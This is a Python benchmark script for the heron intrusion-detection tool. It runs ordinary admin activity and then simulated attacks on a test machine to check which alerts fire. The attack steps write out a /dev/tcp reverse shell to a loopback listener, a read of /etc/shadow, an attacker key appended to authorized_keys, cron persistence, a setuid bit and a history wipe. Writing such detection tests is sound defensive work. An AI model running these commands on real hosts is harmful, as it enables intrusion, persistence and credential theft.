#!/usr/bin/env python3
"""Detection scenario: real attacks and real ordinary activity on this host under the real `heron up`.

    sudo .venv/bin/python bench/detections.py --yes-i-am-on-a-test-machine [--json PATH] [--keep-data]
    sudo .venv/bin/python bench/detections.py --cleanup-only     # remove what an interrupted run left

THIS CHANGES THE MACHINE while it runs: it installs and purges Debian packages (openssh-server, cron, kmod,
tree and their dependencies; whatever was installed before stays), creates a user (heronscn), writes below
/etc, /usr/local/bin, /opt/heron-scenario, /tmp and /dev/shm, and starts sshd on 127.0.0.1:2222. Everything is
undone at the end, on failure and on Ctrl-C (try/finally + atexit); a package *upgraded* as a dependency
(openssh-client for openssh-server) cannot be downgraded and is reported. Refuses to run without
``--yes-i-am-on-a-test-machine``.

1. set-up (before heron starts, not counted): the scenario user with a shell history, an ssh key pair and a
   host key for a private sshd, a small C project, run-parts scripts, a local wheel, a copy of python named
   ``nginx``, a config file in /etc to edit later;
2. ``heron up --data-dir DIR --listen 127.0.0.1:PORT --config CFG`` (agent ships every 0.5 s, flows every
   5 s), waiting until the agent has reported in and ``--settle`` s more;
3. ordinary activity, each step timed: apt-get install of openssh-server, cron, kmod and tree, purge of tree,
   a make + gcc build, run-parts jobs, three ssh logins with a key, an editor-like save in /etc, a venv with
   pip install from a local wheel. Raises no alert, ideally: any alert is listed with rule and process;
4. attacks, each tagged with the rule it must raise: reverse shell over /dev/tcp to a loopback listener,
   ``sh -c id`` under a server process (the python copy named nginx), a binary run from /tmp and one from
   /dev/shm, ``cat /etc/shadow``, a file in /etc/cron.d, a key appended to the user's authorized_keys, a
   setuid bit set on a copied binary, strace attaching to a running process, modprobe of a missing module,
   the user's .bash_history deleted, a DNS lookup of a mining-pool domain.

While it runs a poller reads the platform's alerts (and each alert's detections) every ``--poll`` s; a
detection belongs to the step whose time window holds its event time. Per attack: raised yes/no, the
rules raised, latency (the event's time -> its alert first listed, and from the start of the action).
Finally ``heron alerts --json`` is read once. Prints markdown tables and one JSON line; also
written to ``--json`` (default /tmp/heron-bench/detections.json).
"""

from __future__ import annotations

import argparse
import atexit
import contextlib
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from simagents import Client, HttpError, free_port

ROOT = Path(__file__).resolve().parents[1]
WORK = Path("/tmp/heron-bench")
SCN = Path("/opt/heron-scenario")
STATE = Path("/var/tmp/heron-scenario-state.json")  # what --cleanup-only needs after a killed run
USER = "heronscn"
HOME = Path("/home") / USER
SSH_PORT = 2222
PACKAGES = ["openssh-server", "cron", "kmod", "tree"]
ETC_CONF = Path("/etc/heron-scenario.conf")
CRON_FILE = Path("/etc/cron.d/heron-scenario")
SUID_COPY = Path("/usr/local/bin/heron-scn-suid")
DROPPED = [Path("/tmp/heron-scn-dropper"), Path("/dev/shm/heron-scn-dropper")]
MINING_DOMAIN = "pool.supportxmr.com"
S = 10**9


def log(msg: str) -> None:
    print(f"[{time.strftime('%H:%M:%S')}] {msg}", file=sys.stderr, flush=True)


def run(cmd: list[str], *, timeout: float = 300, check: bool = True, env: dict[str, str] | None = None,
        input_text: str | None = None) -> subprocess.CompletedProcess[str]:
    """Run a command (never through a shell) and fail with its output when ``check``."""
    proc = subprocess.run(cmd, capture_output=True, text=True, timeout=timeout, input=input_text,
                          env={**os.environ, **(env or {})}, check=False)
    if check and proc.returncode != 0:
        raise RuntimeError(f"{' '.join(cmd)} -> {proc.returncode}: {(proc.stderr or proc.stdout)[-800:]}")
    return proc


# -- clean-up ---------------------------------------------------------------------------------------------

class Cleanup:
    """Undo actions, run once in reverse order; each failure is recorded, never stops the others."""

    def __init__(self) -> None:
        self.actions: list[tuple[str, Callable[[], None]]] = []
        self.failures: list[str] = []
        self.done = False
        self.notes: list[str] = []

    def add(self, what: str, fn: Callable[[], None]) -> None:
        self.actions.append((what, fn))

    def run(self) -> None:
        if self.done:
            return
        self.done = True
        while self.actions:
            what, fn = self.actions.pop()
            try:
                fn()
            except Exception as e:
                self.failures.append(f"{what}: {e}")
                log(f"clean-up of {what} failed: {e}")


def dpkg_state() -> dict[str, str]:
    """package -> version of every installed package."""
    out = run(["dpkg-query", "-W", "-f", "${binary:Package}\t${Version}\t${db:Status-Abbrev}\n"]).stdout
    state = {}
    for line in out.splitlines():
        name, version, status = [*line.split("\t"), "", ""][:3]
        if status.startswith("ii"):
            state[name] = version
    return state


def accounts() -> dict[str, list[str]]:
    """User and group names of this host (package scripts add system ones: cron adds group crontab)."""
    return {db: sorted(line.split(":", 1)[0] for line in Path(f"/etc/{db}").read_text().splitlines() if line)
            for db in ("passwd", "group")}


def restore_accounts(before: dict[str, list[str]], notes: list[str]) -> None:
    """Delete the users and groups created since ``before`` (what purged packages leave behind)."""
    now = accounts()
    for user in sorted(set(now["passwd"]) - set(before["passwd"])):
        run(["userdel", user], check=False)
        notes.append(f"user {user} (left by a package) deleted")
    for group in sorted(set(accounts()["group"]) - set(before["group"])):
        run(["groupdel", group], check=False)
        notes.append(f"group {group} (left by a package) deleted")


def restore_packages(before: dict[str, str], notes: list[str]) -> None:
    """Purge every package installed since ``before``; note the upgraded ones (no downgrade source)."""
    now = dpkg_state()
    added = sorted(p for p in now if p not in before)
    if added:
        log(f"purging {' '.join(added)}")
        run(["apt-get", "purge", "-y", *added], env={"DEBIAN_FRONTEND": "noninteractive"}, timeout=600)
    now = dpkg_state()
    changed = [f"{p} {before[p]} -> {now[p]}" for p in before if p in now and now[p] != before[p]]
    gone = [p for p in before if p not in now]
    if changed:
        notes.append("upgraded as a dependency, not downgraded: " + ", ".join(changed))
    if gone:
        notes.append("removed and not reinstalled: " + ", ".join(gone))
    leftover = sorted(p for p in now if p not in before)
    if leftover:
        raise RuntimeError(f"still installed: {leftover}")


def remove_paths(*paths: Path) -> None:
    for p in paths:
        if p.is_dir() and not p.is_symlink():
            shutil.rmtree(p, ignore_errors=True)
        else:
            p.unlink(missing_ok=True)


def user_exists() -> bool:
    return run(["getent", "passwd", USER], check=False).returncode == 0


def kill_pidfile(path: Path) -> None:
    try:
        pid = int(path.read_text().strip())
    except (OSError, ValueError):
        return
    with contextlib.suppress(ProcessLookupError):  # the sshd this scenario started, by its pid file
        os.kill(pid, signal.SIGTERM)


def stop_proc(proc: subprocess.Popen[Any], sig: int = signal.SIGTERM, timeout: float = 30) -> None:
    if proc.poll() is None:
        proc.send_signal(sig)
        try:
            proc.wait(timeout)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()


def cleanup_leftovers(notes: list[str]) -> None:
    """--cleanup-only (and the end of every run): everything this scenario may have created, by name."""
    kill_pidfile(SCN / "ssh" / "sshd.pid")
    remove_paths(CRON_FILE, SUID_COPY, *DROPPED, ETC_CONF, ETC_CONF.with_name(ETC_CONF.name + "~"),
                 ETC_CONF.with_name("." + ETC_CONF.name + ".swp"))
    if user_exists():
        proc = run(["userdel", "--remove", USER], check=False)
        if proc.returncode not in (0, 12):  # 12: home dir trouble; it is removed below
            notes.append(f"userdel {USER}: {proc.stderr.strip()}")
    remove_paths(HOME)
    if STATE.exists():
        state = json.loads(STATE.read_text())
        if state.get("made_run_sshd"):
            remove_paths(Path("/run/sshd"))
        if state.get("made_crond_pid"):
            remove_paths(Path("/run/crond.pid"))
        restore_packages(state["packages"], notes)
        if "accounts" in state:
            restore_accounts(state["accounts"], notes)
        STATE.unlink()
    remove_paths(SCN)


# -- set-up -------------------------------------------------------------------------------------------------

MAKEFILE = "app: main.o util.o\n\tgcc -o app main.o util.o\n%.o: %.c util.h\n\tgcc -O2 -c $<\n"
SOURCES = {
    "util.h": "int add(int a, int b);\n",
    "util.c": '#include "util.h"\nint add(int a, int b) { return a + b; }\n',
    "main.c": '#include <stdio.h>\n#include "util.h"\nint main(void) { printf("%d\\n", add(2, 3)); return 0; }\n',
}
JOBS = {
    "10-rotate": "#!/bin/sh\ncd /opt/heron-scenario/var && for f in *.log; do [ -f \"$f\" ] && mv \"$f\" \"$f.1\"; "
                 "done; date > app.log\n",
    "20-disk": "#!/bin/sh\ndf -h / > /opt/heron-scenario/var/df.txt\n",
    "30-clean": "#!/bin/sh\nfind /opt/heron-scenario/var -name '*.1' -mmin +60 -delete\n",
}


def write_wheel(dest: Path) -> Path:
    """A minimal pure-python wheel (no build tools, no network)."""
    name, version = "heron_scn_demo", "1.0"
    wheel = dest / f"{name}-{version}-py3-none-any.whl"
    dist = f"{name}-{version}.dist-info"
    files = {
        f"{name}/__init__.py": "def hello():\n    return 'hello'\n",
        f"{dist}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
        f"{dist}/WHEEL": "Wheel-Version: 1.0\nGenerator: heron-bench\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "".join(f"{path},,\n" for path in files) + f"{dist}/RECORD,,\n"
    with zipfile.ZipFile(wheel, "w") as z:
        for path, text in files.items():
            z.writestr(path, text)
        z.writestr(f"{dist}/RECORD", record)
    return wheel


def setup(cleanup: Cleanup) -> dict[str, Any]:
    if SCN.exists() or user_exists() or STATE.exists():
        raise SystemExit(f"heron: leftovers of an earlier run ({SCN}, user {USER} or {STATE}): "
                         "run with --cleanup-only first")
    state: dict[str, Any] = {"packages": dpkg_state(), "accounts": accounts(),
                             "made_run_sshd": not Path("/run/sshd").exists(),
                             "made_crond_pid": not Path("/run/crond.pid").exists()}
    STATE.write_text(json.dumps(state))
    cleanup.add("leftovers (by name)", lambda: cleanup_leftovers(cleanup.notes))
    for d in ("ssh", "build", "cron.hourly", "var", "wheels", "sbin", "keys"):
        (SCN / d).mkdir(parents=True, exist_ok=True)
    run(["useradd", "--create-home", "--shell", "/bin/bash", USER])
    run(["usermod", "--password", "*", USER])  # no password, not locked: sshd (UsePAM no) refuses locked accounts
    history = HOME / ".bash_history"
    history.write_text("ls\ncd /srv\n")
    shutil.chown(history, USER, USER)
    (HOME / ".ssh").mkdir(mode=0o700)  # exists before the agent starts, as on a host where the user logs in
    shutil.chown(HOME / ".ssh", USER, USER)
    ssh = SCN / "ssh"
    run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(ssh / "host_key")])
    run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(ssh / "user_key")])
    run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(ssh / "attacker_key")])
    keys = ssh / "authorized"
    keys.mkdir()
    shutil.copy(ssh / "user_key.pub", keys / USER)
    (ssh / "sshd_config").write_text(
        f"Port {SSH_PORT}\nListenAddress 127.0.0.1\nHostKey {ssh}/host_key\nPidFile {ssh}/sshd.pid\n"
        f"AuthorizedKeysFile {keys}/%u\nPasswordAuthentication no\nKbdInteractiveAuthentication no\n"
        "UsePAM no\nStrictModes no\nPrintMotd no\n")
    for name, text in SOURCES.items():
        (SCN / "build" / name).write_text(text)
    (SCN / "build" / "Makefile").write_text(MAKEFILE)
    for name, text in JOBS.items():
        job = SCN / "cron.hourly" / name
        job.write_text(text)
        job.chmod(0o755)
    write_wheel(SCN / "wheels")
    python = Path(os.path.realpath("/usr/bin/python3"))
    shutil.copy2(python, SCN / "sbin" / "nginx")  # a server process that is really python
    ETC_CONF.write_text("# heron detection scenario\nworkers = 2\n")
    return state


# -- heron up -----------------------------------------------------------------------------------------------

@dataclass
class Heron:
    data: Path
    port: int
    proc: subprocess.Popen[bytes]
    url: str
    token: str = ""


def start_heron(data: Path, settle: float) -> Heron:
    data.mkdir(parents=True, exist_ok=True)
    cfg = data / "agent.toml"
    cfg.write_text("batch_max_delay_s = 0.5\nhealth_interval_s = 5\n[network]\ninterval_s = 5\n")
    port = free_port()
    base = [sys.executable, "-m", "heron.cli.main"]
    help_text = run([*base, "up", "--help"], check=False).stdout
    # The issue names `heron up --data DIR --port N`; use those spellings when the CLI has them.
    data_flag = ["--data", str(data / "heron")] if re.search(r"--data\b(?!-)", help_text) \
        else ["--data-dir", str(data / "heron")]
    listen = ["--port", str(port)] if "--port" in help_text else ["--listen", f"127.0.0.1:{port}"]
    cmd = [*base, "up", *data_flag, *listen, "--config", str(cfg)]
    log("starting " + " ".join(cmd[2:]))
    out = open(data / "up.log", "ab")  # noqa: SIM115 (lives as long as the process)
    proc = subprocess.Popen(cmd, cwd=ROOT, stdout=out, stderr=subprocess.STDOUT,
                            env={**os.environ, "PYTHONPATH": str(ROOT / "src")})
    heron = Heron(data / "heron", port, proc, f"http://127.0.0.1:{port}")
    deadline = time.monotonic() + 180
    client = Client(heron.url, timeout=5)
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            raise RuntimeError(f"heron up exited {proc.returncode}: {(data / 'up.log').read_text()[-2000:]}")
        token_file = heron.data / "platform" / "admin.token"
        if token_file.exists():
            heron.token = token_file.read_text().strip()
            try:
                agents = client.json("GET", "/api/v1/agents", heron.token)["agents"]
                if any(a.get("last_health") for a in agents):
                    log(f"agent reported in; settling {settle} s")
                    time.sleep(settle)
                    return heron
            except (OSError, HttpError):
                pass
        time.sleep(0.5)
    raise RuntimeError(f"the agent did not report in within 180 s; see {data / 'up.log'}")


# -- alerts poller -------------------------------------------------------------------------------------------

class AlertWatch(threading.Thread):
    """Reads the alerts (and the detections of each changed alert) every ``interval`` s and records
    when each detection was first listed."""

    def __init__(self, heron: Heron, interval: float) -> None:
        super().__init__(daemon=True)
        self.heron, self.interval = heron, interval
        self.stop_flag = threading.Event()
        self.lock = threading.Lock()
        self.alerts: dict[int, dict[str, Any]] = {}
        self.detections: dict[str, dict[str, Any]] = {}
        self.errors: list[str] = []
        self._sig: dict[int, tuple[Any, Any]] = {}

    def poll_once(self, client: Client) -> None:
        alerts = client.json("GET", "/api/v1/alerts?limit=1000", self.heron.token)["alerts"]
        now = time.time_ns()
        for a in alerts:
            aid = int(a["id"])
            sig = (a.get("n_detections"), a.get("last_ts"))
            if self._sig.get(aid) == sig:
                continue
            self._sig[aid] = sig
            try:
                detail = client.json("GET", f"/api/v1/alerts/{aid}", self.heron.token)
                dets = detail.get("detections") or []
            except HttpError:  # no detail endpoint: the alert stands for its first detection
                dets = []
            if not dets:
                dets = [{"id": f"alert-{aid}", "name": a.get("rule") or a.get("title"), "ts": a.get("first_ts"),
                         "pid": a.get("pid"), "exe": a.get("exe"), "severity": a.get("severity")}]
            with self.lock:
                self.alerts[aid] = a
                for d in dets:
                    key = str(d.get("id"))
                    if key not in self.detections:
                        self.detections[key] = {"alert": aid, "name": d.get("name"), "kind": d.get("kind"),
                                                "ts": d.get("ts"), "pid": d.get("pid"), "exe": d.get("exe"),
                                                "severity": d.get("severity"), "summary": d.get("summary"),
                                                "seen": now}

    def run(self) -> None:
        client = Client(self.heron.url, timeout=10)
        while not self.stop_flag.wait(self.interval):
            try:
                self.poll_once(client)
            except (OSError, HttpError, KeyError, ValueError) as e:
                self.errors.append(str(e)[:300])
        client.close()


# -- steps -----------------------------------------------------------------------------------------------------

@dataclass
class Step:
    name: str
    expect: str | None  # regex on the rule name (case-insensitive); None: ordinary activity
    action: Callable[[], None]
    start: int = 0
    end: int = 0
    error: str | None = None
    detections: list[dict[str, Any]] = field(default_factory=list)


class Scenario:
    def __init__(self, cleanup: Cleanup, packages_before: dict[str, str]) -> None:
        self.cleanup = cleanup
        self.before = packages_before
        self.procs: list[subprocess.Popen[Any]] = []

    def background(self, cmd: list[str]) -> subprocess.Popen[bytes]:
        proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.procs.append(proc)
        self.cleanup.add(f"process {cmd[0]}", lambda: stop_proc(proc))
        return proc

    # ordinary activity
    def apt_install(self) -> None:
        run(["apt-get", "install", "-y", "--no-install-recommends", *PACKAGES],
            env={"DEBIAN_FRONTEND": "noninteractive"}, timeout=900)

    def apt_purge(self) -> None:
        if not any(p.partition(":")[0] == "tree" for p in self.before):  # never remove what was there before
            run(["apt-get", "purge", "-y", "tree"], env={"DEBIAN_FRONTEND": "noninteractive"}, timeout=600)

    def build(self) -> None:
        run(["make", "-C", str(SCN / "build")])
        run([str(SCN / "build" / "app")])
        run(["make", "-C", str(SCN / "build"), "-B"])

    def cron_jobs(self) -> None:
        for _ in range(3):
            run(["run-parts", str(SCN / "cron.hourly")])
            time.sleep(0.5)
        if shutil.which("cron"):  # installed by the first step: the daemon starts and runs its system jobs
            self.background(["cron", "-f", "-L", "0"])
            time.sleep(2)

    def ssh_logins(self) -> None:
        if not Path("/usr/sbin/sshd").exists():
            raise RuntimeError("sshd is not installed (the apt-get step failed?)")
        Path("/run/sshd").mkdir(mode=0o755, exist_ok=True)
        sshd = self.background(["/usr/sbin/sshd", "-D", "-f", str(SCN / "ssh" / "sshd_config")])
        time.sleep(1)
        if sshd.poll() is not None:
            raise RuntimeError(f"sshd exited {sshd.returncode}")
        for command in ("id", "ls -la", "uptime"):
            run(["ssh", "-i", str(SCN / "ssh" / "user_key"), "-p", str(SSH_PORT), "-o", "BatchMode=yes",
                 "-o", "StrictHostKeyChecking=no", "-o", f"UserKnownHostsFile={SCN / 'ssh' / 'known_hosts'}",
                 f"{USER}@127.0.0.1", command], timeout=30)

    def edit_etc(self) -> None:
        """What vim does on :w with backup on: swap file, backup copy, write, remove swap and backup."""
        swap = ETC_CONF.with_name("." + ETC_CONF.name + ".swp")
        backup = ETC_CONF.with_name(ETC_CONF.name + "~")
        swap.write_bytes(b"b0VIM 9.0")
        shutil.copy2(ETC_CONF, backup)
        ETC_CONF.write_text(ETC_CONF.read_text() + "workers = 4\n")
        backup.unlink()
        swap.unlink()

    def venv_pip(self) -> None:
        venv = SCN / "venv"
        run(["/usr/bin/python3", "-m", "venv", str(venv)], timeout=120)
        wheel = next((SCN / "wheels").glob("*.whl"))
        run([str(venv / "bin" / "pip"), "install", "--no-index", "--disable-pip-version-check", str(wheel)],
            timeout=120)
        run([str(venv / "bin" / "python"), "-c", "import heron_scn_demo; heron_scn_demo.hello()"])

    # attacks
    def reverse_shell(self) -> None:
        listener = socket.socket()
        listener.bind(("127.0.0.1", 0))
        listener.listen(1)
        listener.settimeout(10)
        port = listener.getsockname()[1]
        shell = subprocess.Popen(["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"],
                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
        try:
            conn, _ = listener.accept()
            conn.sendall(b"id\nexit\n")
            conn.settimeout(5)
            try:
                while conn.recv(4096):
                    pass
            except TimeoutError:
                pass
            conn.close()
            shell.wait(10)
        finally:
            listener.close()
            stop_proc(shell, signal.SIGKILL)

    def server_shell(self) -> None:
        run([str(SCN / "sbin" / "nginx"), "-c", "import subprocess; subprocess.run(['sh', '-c', 'id'], check=True)"])

    def dropped(self, path: Path) -> Callable[[], None]:
        def act() -> None:
            shutil.copy2("/usr/bin/true", path)
            path.chmod(0o755)
            run([str(path)])
            path.unlink()
        return act

    def read_shadow(self) -> None:
        run(["cat", "/etc/shadow"])

    def cron_entry(self) -> None:
        run(["sh", "-c", f"echo '*/5 * * * * root /usr/bin/true' > {CRON_FILE}"])

    def authorized_key(self) -> None:
        ssh = HOME / ".ssh"
        key = (SCN / "ssh" / "attacker_key.pub").read_text().strip()
        run(["runuser", "-u", USER, "--", "sh", "-c", f"echo '{key}' >> {ssh / 'authorized_keys'}"])

    def setuid(self) -> None:
        shutil.copy2("/usr/bin/true", SUID_COPY)
        time.sleep(1.5)  # past the file collector's coalescing window: the chmod is its own change
        run(["chmod", "4755", str(SUID_COPY)])

    def strace_attach(self) -> None:
        target = self.background(["sleep", "60"])
        time.sleep(0.3)
        tracer = subprocess.Popen(["strace", "-p", str(target.pid), "-o", "/dev/null"],
                                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(1.5)
        stop_proc(tracer, signal.SIGINT, 10)
        stop_proc(target)

    def kernel_module(self) -> None:
        tool = shutil.which("modprobe") or shutil.which("insmod")
        if tool is None:
            raise RuntimeError("neither modprobe nor insmod is installed (kmod: the apt-get step failed?)")
        arg = "heron_scenario_missing" if tool.endswith("modprobe") else "/nonexistent/heron_scenario.ko"
        run([tool, arg], check=False)  # fails: the module does not exist; the exec is what counts

    def history_wipe(self) -> None:
        run(["runuser", "-u", USER, "--", "rm", "-f", str(HOME / ".bash_history")])

    def mining_dns(self) -> None:
        run(["getent", "ahosts", MINING_DOMAIN], check=False, timeout=30)

    def steps(self) -> tuple[list[Step], list[Step]]:
        ordinary = [
            Step("apt-get install " + " ".join(PACKAGES), None, self.apt_install),
            Step("apt-get purge tree", None, self.apt_purge),
            Step("build: make + gcc", None, self.build),
            Step("cron jobs: run-parts x3, cron daemon", None, self.cron_jobs),
            Step("ssh logins with a key (x3)", None, self.ssh_logins),
            Step("editor save in /etc", None, self.edit_etc),
            Step("python venv + pip install (local wheel)", None, self.venv_pip),
        ]
        attacks = [
            Step("reverse shell over /dev/tcp", r"reverse shell", self.reverse_shell),
            Step("shell spawned by a server process", r"shell spawned by a server", self.server_shell),
            Step("binary run from /tmp", r"temporary directory", self.dropped(DROPPED[0])),
            Step("binary run from /dev/shm", r"temporary directory", self.dropped(DROPPED[1])),
            Step("credential file read (cat /etc/shadow)", r"credential|shadow", self.read_shadow),
            Step("new cron entry in /etc/cron.d", r"cron", self.cron_entry),
            Step("new authorized_keys entry", r"authorized_keys", self.authorized_key),
            Step("setuid bit on a copied binary", r"setuid", self.setuid),
            Step("strace attaching to a process", r"debugger|ptrace", self.strace_attach),
            Step("kernel module load (modprobe)", r"kernel module", self.kernel_module),
            Step("shell history deleted", r"history", self.history_wipe),
            Step(f"DNS lookup of {MINING_DOMAIN}", r"mining", self.mining_dns),
        ]
        return ordinary, attacks


def run_steps(steps: list[Step], pause: float) -> None:
    for step in steps:
        log(step.name)
        step.start = time.time_ns()
        try:
            step.action()
        except Exception as e:
            step.error = str(e)[:500]
            log(f"  failed: {step.error}")
        step.end = time.time_ns()
        time.sleep(pause)


def alerts_cli(heron: Heron) -> tuple[str, list[dict[str, Any]] | None]:
    """`heron alerts --json` of the local platform: (how it was read, the alerts or None)."""
    base = [sys.executable, "-m", "heron.cli.main"]
    if not re.search(r"\balerts\b", run([*base, "--help"], check=False).stdout):
        return "heron alerts is missing", None
    cmd = ["alerts", "--json", "--limit", "1000", "--url", heron.url, "--data-dir", str(heron.data)]
    proc = run([*base, *cmd], check=False)
    if proc.returncode != 0:
        return f"heron {' '.join(cmd)} failed: {proc.stderr.strip()[-300:]}", None
    parsed = json.loads(proc.stdout)
    items = parsed["alerts"] if isinstance(parsed, dict) else parsed
    return "heron " + " ".join(cmd), list(items)


def assign(steps: list[Step], detections: list[dict[str, Any]], slack: float) -> list[dict[str, Any]]:
    """Gives each detection to the step whose [start, end + slack] holds its event time; returns the rest."""
    rest = []
    for d in detections:
        ts = int(d.get("ts") or 0)
        owner = next((s for s in steps if s.start - S // 5 <= ts <= s.end + int(slack * S)), None)
        if owner is None:
            rest.append(d)
        else:
            owner.detections.append(d)
    return rest


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--yes-i-am-on-a-test-machine", dest="yes", action="store_true",
                    help="required: the scenario installs packages, creates a user and writes below /etc")
    ap.add_argument("--cleanup-only", action="store_true", help="remove what an interrupted run left, then exit")
    ap.add_argument("--settle", type=float, default=20, help="seconds after the agent reported in, before step 1")
    ap.add_argument("--pause", type=float, default=2.0, help="seconds between two steps (keeps their windows apart)")
    ap.add_argument("--drain", type=float, default=30, help="seconds to wait for the last alerts after the attacks")
    ap.add_argument("--poll", type=float, default=0.25, help="seconds between two reads of the alerts")
    ap.add_argument("--data", default="", help="heron's data directory (default: a new /var/tmp/heron-detections-*)")
    ap.add_argument("--keep-data", action="store_true", help="keep heron's data directory (database, logs)")
    ap.add_argument("--json", default=str(WORK / "detections.json"))
    args = ap.parse_args()
    if os.geteuid() != 0:
        raise SystemExit("heron: run as root (the agent and the scenario need it)")
    if args.cleanup_only:
        notes: list[str] = []
        cleanup_leftovers(notes)
        print("cleaned up" + ("; " + "; ".join(notes) if notes else ""))
        return 0
    if not args.yes:
        raise SystemExit("heron: this installs and purges packages, creates a user and writes below /etc; "
                         "run it only on a test machine, with --yes-i-am-on-a-test-machine")
    WORK.mkdir(parents=True, exist_ok=True)
    cleanup = Cleanup()
    atexit.register(cleanup.run)
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))  # SystemExit: the finally below runs
    data = Path(args.data or f"/var/tmp/heron-detections-{time.strftime('%Y%m%d-%H%M%S')}")
    if not args.keep_data:
        cleanup.add("heron data dir", lambda: remove_paths(data))
    result: dict[str, Any] = {"bench": "detections", "data": str(data)}
    try:
        state = setup(cleanup)
        scenario = Scenario(cleanup, state["packages"])
        heron = start_heron(data, args.settle)
        cleanup.add("heron up", lambda: stop_proc(heron.proc, signal.SIGINT, 60))
        watch = AlertWatch(heron, args.poll)
        watch.start()
        began = time.time_ns()
        ordinary, attacks = scenario.steps()
        run_steps(ordinary, args.pause)
        run_steps(attacks, args.pause)
        log(f"waiting {args.drain} s for the last alerts")
        time.sleep(args.drain)
        watch.stop_flag.set()
        watch.join(30)
        how, cli_alerts = alerts_cli(heron)
        with watch.lock:
            detections = sorted(watch.detections.values(), key=lambda d: int(d.get("ts") or 0))
        rest = assign([*ordinary, *attacks], detections, slack=max(1.0, args.pause - 0.5))
        result |= report(ordinary, attacks, rest, began, how, cli_alerts, watch.errors)
    finally:
        cleanup.run()
        result["cleanup_failures"] = cleanup.failures
        result["machine_notes"] = cleanup.notes
        for line in cleanup.failures + cleanup.notes:
            print(f"clean-up: {line}")
    Path(args.json).write_text(json.dumps(result, indent=1))
    print("\n" + json.dumps(result))
    return 0


def report(ordinary: list[Step], attacks: list[Step], rest: list[dict[str, Any]], began: int, how: str,
           cli_alerts: list[dict[str, Any]] | None, errors: list[str]) -> dict[str, Any]:
    print(f"Command: `{' '.join(['.venv/bin/python', 'bench/detections.py', *sys.argv[1:]])}`\n")
    print("| attack | expected rule | raised | rules raised in its window | event -> alert ms | action -> alert ms "
          "| note |")
    print("|---|---|---|---|---|---|---|")
    rows = []
    for s in attacks:
        assert s.expect is not None
        pattern = re.compile(s.expect, re.IGNORECASE)
        hits = [d for d in s.detections if pattern.search(str(d.get("name") or ""))]
        first = min(hits, key=lambda d: d["seen"]) if hits else None
        latency = round((first["seen"] - int(first["ts"])) / 1e6) if first else None  # event -> alert listed
        from_action = round((first["seen"] - s.start) / 1e6) if first else None
        names = sorted({str(d.get("name")) for d in s.detections})
        rows.append({"attack": s.name, "expect": s.expect, "raised": bool(hits), "latency_ms": latency,
                     "from_action_ms": from_action, "rules": names, "error": s.error})
        print(f"| {s.name} | /{s.expect}/ | {'yes' if hits else '**no**'} | {', '.join(names) or '-'} | "
              f"{latency if latency is not None else '-'} | {from_action if from_action is not None else '-'} | "
              f"{s.error or ''} |")
    raised = sum(1 for r in rows if r["raised"])
    print(f"\nAttacks: {raised} of {len(rows)} raised the expected alert.\n")
    noisy = [(s, d) for s in ordinary for d in s.detections]
    print(f"Ordinary activity: {len(ordinary)} steps, {len(noisy)} detections (goal 0).\n")
    if noisy:
        print("| step | rule | severity | pid | exe | summary |")
        print("|---|---|---|---|---|---|")
        for s, d in noisy:
            print(f"| {s.name} | {d.get('name')} | {d.get('severity')} | {d.get('pid')} | {d.get('exe')} | "
                  f"{str(d.get('summary') or '')[:100]} |")
    for s in ordinary:
        if s.error:
            print(f"- ordinary step failed: {s.name}: {s.error}")
    startup = [d for d in rest if int(d.get("ts") or 0) < began]
    between = [d for d in rest if int(d.get("ts") or 0) >= began]
    for label, items in (("before the scenario (agent start-up)", startup), ("outside every step's window", between)):
        if items:
            print(f"\nDetections {label}: " + "; ".join(f"{d.get('name')} ({d.get('exe')}, pid {d.get('pid')})"
                                                     for d in items[:20]))
    print(f"\nAlerts read back with: {how} ({'n/a' if cli_alerts is None else len(cli_alerts)} alerts)")
    if errors:
        print(f"alerts poller errors: {errors[:3]}")
    return {"attacks": rows, "attacks_raised": raised, "attacks_total": len(rows),
            "ordinary": [{"step": s.name, "error": s.error, "detections": s.detections} for s in ordinary],
            "ordinary_detections": len(noisy), "startup_detections": startup, "unassigned_detections": between,
            "alerts_cli": how, "alerts_cli_count": None if cli_alerts is None else len(cli_alerts),
            "poll_errors": errors[:10]}


if __name__ == "__main__":
    sys.exit(main())
